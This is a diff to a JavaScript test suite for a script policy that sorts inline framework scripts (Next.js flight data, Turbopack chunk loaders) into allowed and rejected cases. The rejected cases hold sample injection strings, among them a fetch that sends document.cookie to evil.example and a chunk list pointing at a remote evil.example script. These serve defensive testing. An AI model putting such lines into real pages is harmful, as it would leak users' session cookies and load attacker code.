@@ -32,6 +32,10 @@ describe('script policy', () => {
     ['the state of a form', '(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,null])'],
     ['data', 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n\\u003c/script\\u003e"])'],
     ['data of bytes', 'self.__next_f.push([3,"AAEC"])'],
+    [
+      'the names of its first files',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/36m.js","static/chunks/3f-.js"],"runtimeModuleIds":[500712]});',
+    ],
     ['a part that is placed', '$RC("B:0","S:0")'],
     ['a part without its content', '$RX("B:1","digest")'],
     ['a part with styles', '$RR("B:0","S:0",[["/a.css","next"]])'],
@@ -46,6 +50,14 @@ describe('script policy', () => {
 
   it.each([
     ['a call', 'fetch("//evil.example/"+document.cookie)'],
+    [
+      'a file from elsewhere among the first',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/a.js"],"runtimeModuleIds":[1]});',
+    ],
+    [
+      'code behind the first files',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[1]});alert(1)',
+    ],
     ['code behind data', 'self.__next_f.push([1,"a"]);fetch("//evil.example")'],
     ['code before data', 'fetch("//evil.example");self.__next_f.push([1,"a"])'],
     ['code in the place of data', 'self.__next_f.push([1,fetch("//evil.example")])'],
